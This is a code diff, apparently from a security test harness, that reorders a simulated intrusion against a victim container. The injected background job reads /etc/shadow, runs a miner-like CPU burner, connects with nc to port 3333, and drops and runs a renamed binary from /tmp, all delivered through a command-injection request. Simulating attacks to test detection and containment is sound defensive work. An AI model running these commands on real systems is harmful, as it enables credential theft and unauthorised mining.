@@ -155,12 +155,14 @@ export async function runIntrusion(ctx: ScenarioContext): Promise<ScenarioResult
     // The rest runs inside the container on its own clock (a background job started by the injected
     // command), so it goes on even once the container is cut off from the network.
     say(
-      'attack 2/2: a background job in the victim: CPU burner (miner-like) + connection to mining-pool port 3333, ' +
-        'then after 6 s /etc/shadow read and a binary dropped in /tmp and run',
+      'attack 2/2: a background job in the victim: /etc/shadow read, CPU burner (miner-like) + connection to ' +
+        'mining-pool port 3333, then after 6 s a binary dropped in /tmp and run',
     );
     const gw = victim.gateway || '172.17.0.1';
     const job =
-      `(sha256sum /dev/zero & nc -w 2 ${gw} 3333 </dev/null; sleep 6; cat /etc/shadow; ` +
+      // The credential read comes first: once the miner is contained (paused), nothing after it runs
+      // until the rollback.
+      `(cat /etc/shadow; sha256sum /dev/zero & nc -w 2 ${gw} 3333 </dev/null; sleep 6; ` +
       'cp /bin/busybox /tmp/sha256sum; /tmp/sha256sum /dev/zero) >/dev/null 2>&1 &';
     await httpGet(victim.ip, PORT, inject(job)).catch((e: unknown) => say(`  request failed: ${(e as Error).message}`));
 
